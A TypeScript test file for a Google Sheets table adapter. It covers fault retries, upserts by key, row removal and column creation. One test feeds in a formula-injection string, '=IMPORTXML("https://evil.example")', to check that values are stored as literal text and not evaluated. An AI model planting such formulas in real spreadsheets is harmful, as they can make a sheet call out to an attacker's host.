import { expect, test } from 'vitest'
import type { Asked, Fault } from '#test/doubles/fault-server.ts'
import { sheetsWith, skuOf } from '#test/doubles/google-sheets/sheets-with.ts'
import type { SavedRow, TableColumn } from '../table-keeper.ts'

const isUpdate = ({ url }: Asked) => url.pathname.endsWith(':batchUpdate')
const KEY = '0'
const COLUMNS: readonly TableColumn[] = ['SKU', 'Name', 'Weight (kg)'].map((key) => ({ key, holds: 'any' }))

async function withTable(count: number) {
  const there = await sheetsWith(count)
  const keeper = there.session.tables
  if (!keeper) throw new Error('Google Sheets keeps tables.')
  const row = (sku: string, name: string, id: string | null = null): SavedRow => ({
    id,
    cells: { SKU: sku, Name: name, 'Weight (kg)': 0.5 },
  })
  const save = (rows: readonly SavedRow[]) => keeper.save(KEY, COLUMNS, 'SKU', rows)
  const read = async () => {
    const pages = await Array.fromAsync(keeper.read(KEY, COLUMNS, null, 'SKU'))
    return pages.flatMap(({ rows }) => rows)
  }
  return { ...there, keeper, row, save, read }
}

test.each<Fault>([
  { is: 'limited', retryAfter: '2' },
  { is: 'broken' },
  { is: 'reset' },
  { is: 'lost' },
  { is: 'truncated gzip' },
])('rows that are saved through %j are there once', async (fault) => {
  const { double, save, row, column } = await withTable(0)
  double.fail(fault, isUpdate)
  const outcomes = await save(Array.from({ length: 40 }, (_, at) => row(skuOf(at), `Row ${at}`)))
  expect(outcomes.map(({ state }) => state)).toEqual(Array(40).fill('written'))
  expect(column('Name')).toEqual(Array.from({ length: 40 }, (_, at) => `Row ${at}`))
  expect(double.pending()).toBe(0)
})

test('rows are found by their key wherever they are now, made where there is none, all with one request, and other columns stay', async () => {
  const { double, sheet, save, row, column } = await withTable(3)
  sheet.rows.splice(1, 0, [{ value: 'A note of theirs' }])
  const passport = sheet.rows[2]
  if (passport) passport[5] = { value: 'theirs' }
  double.asked.splice(0)
  const outcomes = await save([
    row('S-new-key', 'By its former key', skuOf(0)),
    row(skuOf(1), 'By its key'),
    row('S-3', 'Made'),
    row('S-4', 'Gone', 'S-gone'),
  ])
  expect(outcomes).toMatchObject([
    { state: 'written', id: 'S-new-key', isNew: false },
    { state: 'written', id: skuOf(1), isNew: false },
    { state: 'written', id: 'S-3', isNew: true },
    { state: 'not_found' },
  ])
  expect(column('SKU')).toEqual([null, 'S-new-key', skuOf(1), skuOf(2), 'S-3'])
  expect(column('Name').slice(1)).toEqual(['By its former key', 'By its key', 'Article 2', 'Made'])
  expect(column('Passport')[1]).toBe('theirs')
  expect(double.asked.filter(isUpdate)).toHaveLength(1)
})

test('nothing becomes a formula, a day or a number, and what is read back is what was written', async () => {
  const { save, row, read } = await withTable(0)
  const names = ['=IMPORTXML("https://evil.example")', '2026-11-23', '007', '+1', "'quoted", '1,5', 'WAHR']
  await save(names.map((name, at) => row(skuOf(at), name)))
  expect((await read()).map(({ cells }) => cells['Name'])).toEqual(names)
})

test('one row that is refused is told apart from the others, which are written', async () => {
  const { save, row, column } = await withTable(0)
  const rows = Array.from({ length: 20 }, (_, at) => row(skuOf(at), at === 13 ? 'x'.repeat(50_001) : `Row ${at}`))
  const outcomes = await save(rows)
  expect(outcomes.map(({ state }) => state)).toEqual(rows.map((_, at) => (at === 13 ? 'refused' : 'written')))
  expect(column('SKU')).toHaveLength(19)
})

test('all rows with a key are read, the first of each; rows are removed, from below, and none of the others', async () => {
  const { double, sheet, keeper, read, column } = await withTable(1_200)
  double.addRow(sheet, ['A second', skuOf(3), null, null, 9])
  double.addRow(sheet, ['Of theirs'])
  const rows = await read()
  expect(rows.map(({ id }) => id)).toEqual(Array.from({ length: 1_200 }, (_, at) => skuOf(at)))
  expect(rows[3]?.cells).toEqual({ SKU: skuOf(3), Name: 'Article 3', 'Weight (kg)': 0.5 })
  double.fail({ is: 'lost' }, isUpdate)
  const leave = [skuOf(700), skuOf(5), skuOf(6), 'S-gone']
  const outcomes = await keeper.remove(KEY, 'SKU', leave)
  expect(outcomes.map(({ state }) => state)).toEqual(['written', 'written', 'written', 'not_found'])
  expect(column('SKU').filter((sku) => leave.includes(String(sku)))).toEqual([])
  expect(column('Name')).toHaveLength(1_199)
})

test('sheets are listed with their headers; a column that is to be made is made once, also in an empty sheet', async () => {
  const { double, keeper, sheet } = await withTable(0)
  const empty = double.addSheet('Ours', [])
  const [listed, other] = await keeper.list()
  expect(listed).toMatchObject({ key: KEY, label: "Articles 'Ä'", within: "Collection 'Ä/Ö'", canMakeColumns: true })
  expect(listed?.columns.map(({ label, holds }) => `${label} ${holds}`)).toContain('Weight (kg) any')
  expect(other?.columns).toEqual([])
  const left = [{ label: 'Left on', holds: 'day' as const }]
  expect(await keeper.makeColumns(KEY, left)).toEqual(['Left on'])
  expect(await keeper.makeColumns(KEY, left)).toEqual(['Left on'])
  expect(sheet.rows[0]?.map(({ value }) => value).slice(5)).toEqual(['Passport', 'Left on'])
  await keeper.makeColumns(String(empty.sheetId), [{ label: 'variant_id', holds: 'text' }, ...left])
  const saved = await keeper.save(String(empty.sheetId), [], 'variant_id', [{ id: null, cells: { variant_id: 'v1' } }])
  expect(saved).toMatchObject([{ state: 'written', isNew: true }])
  expect(empty.rows.map((row) => row.map(({ value }) => value))).toEqual([['variant_id', 'Left on'], ['v1']])
})
